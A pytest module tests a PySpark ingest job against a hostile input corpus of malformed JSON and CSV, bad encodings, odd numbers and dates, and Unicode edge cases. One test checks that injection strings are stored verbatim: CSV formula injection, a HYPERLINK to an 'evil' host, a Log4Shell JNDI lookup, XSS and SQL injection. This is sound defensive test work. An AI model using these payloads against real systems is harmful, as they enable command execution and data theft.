"""Ingest of a hostile input corpus (tests/data/hostile): broken JSON and CSV,
encodings, line endings, odd numbers and dates, injection strings and Unicode
edge cases. The job must never crash on data, every record must end up in its
bronze table or in quarantine with the planted reason (by line number), and
valid records must come out typed correctly and stored verbatim.

Two files are written by the fixture instead of committed because they are
large: a JSONL file and a CSV file, each with a single line of over 2 MB.
"""

from __future__ import annotations

import shutil
from datetime import date, datetime
from decimal import Decimal
from pathlib import Path

import pytest
from pyspark.sql import functions as F

from common.quarantine import Reason
from common.tables import BRONZE_DATA_TABLES, get_table
from shoplake.registry import run_job
from tests.conftest import PROJECT_ROOT, make_config

CORPUS = PROJECT_ROOT / "tests" / "data" / "hostile"
HUGE = 2 * 1024 * 1024 + 17

HOSTILE_YAML = """
name: hostile
description: hostile input corpus (tests/data/hostile)
folder: hostile
time_zone: Asia/Shanghai
feeds:
  - name: events
    pattern: "events/*.jsonl"
    format: jsonl
    fields:
      event_id: string
      event_type: {type: string, required: true}
      ts: {type: timestamp, formats: [epoch_ms, "yyyy-MM-dd'T'HH:mm:ssXXX"], required: true}
      query: string
      page: string
    outputs:
      - table: bronze.events
        columns: {event_time: ts, search_query: query}
  - name: orders
    pattern: "orders/*.csv"
    format: csv
    header: true
    fields:
      order_id: {type: string, required: true}
      user_id: string
      order_time:
        type: timestamp
        formats: ["yyyy-MM-dd HH:mm:ss", "yyyy/MM/dd HH:mm", "yyyy-MM-dd'T'HH:mm:ssXXX", "dd.MM.yyyy HH:mm"]
        required: true
      status: string
      total_amount: decimal(18,2)
      discount_amount: decimal(18,2)
      currency: string
      coupon_code: string
    outputs:
      - table: bronze.orders
  - name: products
    pattern: "products/*.csv"
    format: csv
    encoding: gbk
    header: true
    fields:
      product_id: {type: string, required: true}
      product_name: string
      brand: string
      price: decimal(18,2)
      updated_at: {type: timestamp, formats: ["yyyy-MM-dd HH:mm:ss"]}
    outputs:
      - table: bronze.products
  - name: customers
    pattern: "customers/*.csv"
    format: csv
    header: true
    fields:
      customer_id: {type: string, required: true}
      name: string
      birth_date: {type: date, formats: ["yyyy-MM-dd", "yyyy/MM/dd", "dd.MM.yyyy", "yyyyMMdd"]}
      marketing_consent: boolean
    outputs:
      - table: bronze.customers
  - name: order_lines
    pattern: "order_lines/*.csv"
    format: csv
    header: true
    fields:
      order_id: {type: string, required: true}
      line_no: {type: int, required: true}
      product_id: {type: string, required: true}
      quantity: int
      unit_price: decimal(18,2)
    outputs:
      - table: bronze.order_lines
"""

OK = None  # the line is a valid record and must be in its bronze table
NUM, TS, DATE, BOOL = (Reason.UNPARSEABLE_NUMBER.value, Reason.UNPARSEABLE_TIMESTAMP.value,
                       Reason.UNPARSEABLE_DATE.value, Reason.UNPARSEABLE_BOOLEAN.value)  # fmt: skip
JSON, COLS, KEY, ENC = (Reason.MALFORMED_JSON.value, Reason.WRONG_COLUMN_COUNT.value,
                        Reason.MISSING_KEY.value, Reason.ENCODING_ERROR.value)  # fmt: skip

# Per corpus file (relative to the source folder): line number -> expected reason
# (OK = loaded). Every non-blank record is listed, so len() is the file's record count.
EXPECTED: dict[str, dict[int, str | None]] = {
    "events/malformed.jsonl": {
        1: OK,  # Chinese text and an emoji
        2: JSON,  # truncated mid-number
        3: JSON,  # single-quoted keys
        4: JSON,  # an array, not an object
        5: JSON,  # a bare string
        6: JSON,  # null
        7: JSON,  # trailing comma
        8: KEY,  # event_type absent
        9: KEY,  # event_type ""
        10: TS,  # ts "soon"
        11: OK,  # ts in the year 3000: future, kept
        12: OK,  # \u0000 escape: a NUL inside the text
        13: JSON,  # a raw NUL byte inside a string (a control character)
        14: ENC,  # \ud800: a lone surrogate escape
        15: OK,  # a surrogate pair: one emoji
        16: JSON,  # 5,000 nested arrays
        17: OK,  # script and SQL injection strings
        18: TS,  # negative epoch
        19: TS,  # 1e400 (infinity)
        20: OK,  # ISO text with an offset
        21: OK,  # duplicated key: the last wins
        22: OK,  # an object where a string is expected: kept as JSON text
        23: JSON,  # a BOM at the start of a middle line
        24: TS,  # epoch ms past year 9999 (overflowed Spark before the fix)
    },
    "events/blank_only.jsonl": {},  # blank lines with \n, \r\n, \t and a lone \r
    "events/huge_line.jsonl": {1: OK, 2: JSON},  # written by the fixture: 2 MB lines, the second never closed
    "orders/numbers_bom_mixed_eol.csv": {
        2: OK,  # "1,234.50"
        3: OK,  # full-width １２３ and ０．５
        4: OK,  # full-width with separators
        5: OK,  # negative
        6: OK,  # absurd but fits decimal(18,2)
        7: NUM,  # overflows decimal(18,2)
        8: NUM,  # "1,23.4": not thousands grouping
        9: NUM,  # 1e5
        10: NUM,  # NaN
        11: NUM,  # ¥12.00
        12: OK,  # padded with spaces
        13: NUM,  # Arabic-Indic digits
    },
    "orders/text_injection_unicode.csv": {n: OK for n in range(2, 10)},
    "orders/times_cr_only.csv": {
        2: OK,  # yyyy-MM-dd HH:mm:ss
        3: OK,  # yyyy/MM/dd HH:mm
        4: OK,  # ISO with +00:00
        5: OK,  # dd.MM.yyyy HH:mm
        6: TS,  # 2023-02-29
        7: TS,  # 2024-02-30
        8: TS,  # 25:00:00
        9: OK,  # 2999-12-31: future, kept
        10: OK,  # 2024-02-29: a real leap day
        11: KEY,  # order_time empty
        12: TS,  # US order, not declared
        13: TS,  # epoch, not declared for this feed
    },
    "orders/broken_csv.csv": {
        2: OK,  # B1
        3: COLS,  # 7 fields
        4: COLS,  # 9 fields
        5: COLS,  # an opening quote never closed
        6: OK,  # a stray quote inside an unquoted field
        7: COLS,  # the whole line opened by a quote
        8: KEY,  # empty order_id
        9: KEY,  # blank order_id
        10: OK,  # B1 again (another version)
        11: NUM,  # abc
        13: KEY,  # ,,,,,,, (line 12 is blank)
        14: OK,  # doubled quotes and a field spanning lines 14-15
    },
    "orders/empty.csv": {},  # zero bytes
    "orders/huge_field.csv": {2: OK},  # written by the fixture: one 2 MB quoted field
    "products/gbk.csv": {
        2: OK,  # "1,299.00"
        3: OK,  # full-width ８９．９０
        4: ENC,  # \x80\x80
        5: OK,  # quoted comma, -0.01
        6: ENC,  # \xff
    },
    "customers/dates.csv": {
        2: OK,  # 1990-05-17, true
        3: OK,  # 1990/05/17, yes
        4: OK,  # 17.05.1990, 0
        5: OK,  # 19900517, N
        6: DATE,  # 2023-02-29
        7: OK,  # 2024-02-29
        8: DATE,  # month 13
        9: DATE,  # 31 April
        10: OK,  # 2990: future, kept
        11: DATE,  # 0000-00-00
        12: BOOL,  # maybe
        13: OK,  # both empty
        14: DATE,  # 05/17/1990, not declared
    },
    "order_lines/ints_full_width.csv": {
        2: OK,  # line_no １, quantity １２３, "1,234.50"
        3: OK,  # quantity "1,234"
        4: NUM,  # quantity overflows int
        5: OK,  # quantity -5
        6: NUM,  # quantity 1.5
        7: OK,  # line_no ６, quantity +7
        8: KEY,  # line_no empty
        9: NUM,  # line_no x
        10: NUM,  # line_no 2147483648
    },
}
TABLE_OF = {
    "events": "bronze.events",
    "orders": "bronze.orders",
    "products": "bronze.products",
    "customers": "bronze.customers",
    "order_lines": "bronze.order_lines",
}
T0 = datetime(2024, 3, 1, 2, 0)  # 2024-03-01 10:00 Asia/Shanghai, as a UTC instant (Spark's session zone)


def _write_huge_files(folder: Path) -> None:
    big = "大" + "x" * HUGE + "尾"
    (folder / "events/huge_line.jsonl").write_text(
        f'{{"event_id":"h1","event_type":"view","ts":1709258400000,"query":"{big}"}}\n'
        + f'{{"event_id":"h2","event_type":"view","ts":1709258400000,"query":"{big}\n',  # never closed
        encoding="utf-8",
    )
    header = "order_id,user_id,order_time,status,total_amount,discount_amount,currency,coupon_code"
    (folder / "orders/huge_field.csv").write_text(
        f'{header}\nH1,u1,2024-03-01 10:00:00,paid,1,0,CNY,"{big}"\n', encoding="utf-8"
    )


@pytest.fixture(scope="module")
def hostile(spark, tmp_path_factory):
    from common.config import load_config
    from common.delta import open_store
    from tests.conftest import TEST_SPARK_CONF

    tmp = tmp_path_factory.mktemp("hostile")
    conf = tmp / "conf"
    shutil.copytree(PROJECT_ROOT / "conf", conf)
    (conf / "sources" / "hostile.yaml").write_text(HOSTILE_YAML, encoding="utf-8")
    folder = tmp / "landing" / "hostile"
    shutil.copytree(CORPUS, folder, ignore=shutil.ignore_patterns(".gitattributes"))
    _write_huge_files(folder)
    assert make_config(tmp)  # the shared overrides still validate
    cfg = load_config(
        "local",
        [
            *TEST_SPARK_CONF,
            f"lake.root={tmp / 'lake'}",
            f"landing.root={tmp / 'landing'}",
            "landing.sources=[hostile]",
            # Most corpus files are mostly bad on purpose.
            "ingest.max_quarantine_share=1.0",
        ],
        conf_dir=conf,
    )
    result = run_job(spark, cfg, "ingest")
    return folder, open_store(spark, cfg), result, cfg


def _rel(folder: Path, path: str) -> str:
    return str(Path(path).relative_to(folder))


def _quarantine(hostile) -> dict[tuple[str, int], object]:
    folder, store, *_ = hostile
    rows = store.read(get_table("bronze.quarantine")).collect()
    return {(_rel(folder, r._source_file), r._source_line): r for r in rows}


def _loaded(hostile, table: str) -> dict[tuple[str, int], object]:
    folder, store, *_ = hostile
    rows = store.read(BRONZE_DATA_TABLES[table]).collect()
    found = {(_rel(folder, r._source_file), r._source_line): r for r in rows}
    assert len(found) == len(rows), f"{table}: a source line was written twice"
    return found


def _by_key(hostile, table: str, key: str) -> dict[str, object]:
    return {r[key]: r for r in _loaded(hostile, table).values()}


def test_every_corpus_file_is_listed_with_its_expectations(hostile):
    folder, *_ = hostile
    on_disk = {_rel(folder, str(p)) for p in folder.rglob("*") if p.is_file()}
    assert on_disk == set(EXPECTED)


def test_every_planted_line_has_its_exact_reason(hostile):
    quarantine = _quarantine(hostile)
    loaded = {}
    for table in TABLE_OF.values():
        loaded |= _loaded(hostile, table)
    expected_bad = {(f, n): r for f, lines in EXPECTED.items() for n, r in lines.items() if r is not OK}
    expected_ok = {(f, n) for f, lines in EXPECTED.items() for n, r in lines.items() if r is OK}
    assert {k: r.reason for k, r in quarantine.items()} == expected_bad
    assert set(loaded) == expected_ok
    for key, row in quarantine.items():
        assert row.detail, key
        assert row.target_table == TABLE_OF[key[0].split("/")[0]], key


def test_counts_reconcile_per_file_and_empty_files_are_recorded(hostile):
    folder, store, result, _ = hostile
    files = {_rel(folder, r.path): r for r in store.read(get_table("bronze.ingested_files")).collect()}
    assert set(files) == set(EXPECTED)  # including the empty and blank-only files
    for name, lines in EXPECTED.items():
        good = sum(1 for r in lines.values() if r is OK)
        assert (files[name].records, files[name].loaded, files[name].quarantined) == (
            len(lines),
            good,
            len(lines) - good,
        ), name
    assert files["orders/empty.csv"].size_bytes == 0
    assert result.row_counts["records_in"] == sum(len(v) for v in EXPECTED.values())


def test_numbers_are_normalised_not_guessed(hostile):
    orders = _by_key(hostile, "bronze.orders", "order_id")
    assert orders["N1"].total_amount == Decimal("1234.50")
    assert (orders["N2"].total_amount, orders["N2"].discount_amount) == (Decimal("123.00"), Decimal("0.50"))
    assert orders["N3"].total_amount == Decimal("1234567.89")
    assert orders["N4"].total_amount == Decimal("-15.00")  # refunds: bronze does not judge signs
    assert orders["N5"].total_amount == Decimal("9999999999999999.99")  # absurd but representable
    assert orders["N11"].total_amount == Decimal("42.50")
    lines = {r.line_no: r for r in _loaded(hostile, "bronze.order_lines").values()}
    assert (lines[1].quantity, lines[1].unit_price) == (123, Decimal("1234.50"))
    assert lines[2].quantity == 1234
    assert lines[4].quantity == -5
    assert (lines[6].quantity, sorted(lines)) == (7, [1, 2, 4, 6])
    products = _by_key(hostile, "bronze.products", "product_id")
    assert products["P1"].price == Decimal("1299.00")
    assert products["P2"].price == Decimal("89.90")
    assert products["P4"].price == Decimal("-0.01")


def test_gbk_and_bom_text_decodes(hostile):
    products = _by_key(hostile, "bronze.products", "product_id")
    assert (products["P1"].product_name, products["P1"].brand) == ("连衣裙", "优衣库")
    assert products["P4"].product_name == "旧款,特价"
    assert products["P1"].updated_at == T0
    # The BOM is not part of the first header name, so order_id was found.
    assert "N1" in _by_key(hostile, "bronze.orders", "order_id")


def test_dates_and_timestamps(hostile):
    orders = _by_key(hostile, "bronze.orders", "order_id")
    assert [orders[k].order_time for k in ("D1", "D2", "D4")] == [T0] * 3
    assert orders["D3"].order_time == datetime(2024, 3, 1, 10, 0)  # explicit +00:00
    assert orders["D8"].order_time == datetime(2999, 12, 31, 15, 59, 59)  # future, kept as-is
    assert orders["D9"].order_time == datetime(2024, 2, 29, 4, 0)
    customers = _by_key(hostile, "bronze.customers", "customer_id")
    born = date(1990, 5, 17)
    assert [customers[k].birth_date for k in ("C1", "C2", "C3", "C4")] == [born] * 4
    assert [customers[k].marketing_consent for k in ("C1", "C2", "C3", "C4")] == [True, True, False, False]
    assert customers["C6"].birth_date == date(2024, 2, 29)
    assert customers["C9"].birth_date == date(2990, 1, 1)
    assert (customers["C12"].birth_date, customers["C12"].marketing_consent) == (None, None)
    events = _by_key(hostile, "bronze.events", "event_id")
    assert events["e1"].event_time == T0
    assert events["e8"].event_time == datetime(3000, 1, 1)
    assert events["e16"].event_time == T0


def test_injection_and_unicode_text_is_stored_verbatim(hostile):
    orders = _by_key(hostile, "bronze.orders", "order_id")
    assert (orders["T1"].status, orders["T1"].coupon_code) == ("=cmd|' /C calc'!A0", "<script>alert(1)</script>")
    assert (orders["T2"].status, orders["T2"].coupon_code) == ("'; DROP TABLE x; --", '=HYPERLINK("http://evil/","x")')
    assert (orders["T3"].status, orders["T3"].coupon_code) == ("😀🛒👨\u200d👩\u200d👧", "e\u0301\u0302")
    assert (orders["T4"].status, orders["T4"].coupon_code) == ("مرحبا\u200fעברית", "\u202eevil\u202c")
    assert "T5" not in orders and orders["T5\u200b"].coupon_code == "a\u200bb\ufeffc\u2060d"
    assert (orders["T6"].status, orders["T6"].coupon_code) == ("pa\x00id", "x\x00y")
    assert (orders["T7"].status, orders["T7"].coupon_code) == (
        "Robert'); DROP TABLE students;--",
        "${jndi:ldap://evil/a}",
    )
    assert (orders["T8"].status, orders["T8"].coupon_code) == ("+cmd|' /C calc'!A0", "@SUM(1+1)")
    events = _by_key(hostile, "bronze.events", "event_id")
    assert (events["e13"].search_query, events["e13"].page) == ("<script>alert(1)</script>", "'; DROP TABLE x; --")
    assert events["e1"].search_query == "连衣裙 😀"
    assert events["e9"].search_query == "a\x00b"
    assert events["e12"].search_query == "😀"
    assert events["e17"].event_type == "click"  # duplicate JSON key: the last one wins, as in every JSON reader
    assert events["e18"].event_type == '{"nested": true}'


def test_broken_csv_loses_only_the_broken_lines(hostile):
    orders = _loaded(hostile, "bronze.orders")
    b = "orders/broken_csv.csv"
    assert orders[(b, 6)].status == 'pa"id'  # a stray quote inside a field is a character
    assert (orders[(b, 14)].user_id, orders[(b, 14)].coupon_code) == ('u1"q', 'multi\nline "coupon"')
    assert [orders[(b, n)].total_amount for n in (2, 10)] == [Decimal("10.00"), Decimal("20.00")]  # both versions


def test_huge_lines_are_loaded_whole_or_quarantined(hostile):
    folder, store, *_ = hostile
    events = _by_key(hostile, "bronze.events", "event_id")
    assert len(events["h1"].search_query) == HUGE + 2 and events["h1"].search_query.endswith("x尾")
    assert len(_by_key(hostile, "bronze.orders", "order_id")["H1"].coupon_code) == HUGE + 2
    raw = store.read(get_table("bronze.quarantine")).where(F.col("_source_file").endswith("huge_line.jsonl"))
    assert raw.select(F.length("raw")).first()[0] > HUGE


def test_undecodable_bytes_are_kept_escaped(hostile):
    row = _quarantine(hostile)[("products/gbk.csv", 4)]
    assert row.raw.startswith("P3,\\x80\\x80,")


def test_a_rerun_adds_nothing_not_even_the_empty_file(hostile, spark):
    _, store, _, cfg = hostile
    before = store.read(get_table("bronze.ingested_files")).count()
    result = run_job(spark, cfg, "ingest")
    assert "no new files" in result.summary
    assert result.metrics["redelivered_files_skipped"] == []
    assert store.read(get_table("bronze.ingested_files")).count() == before
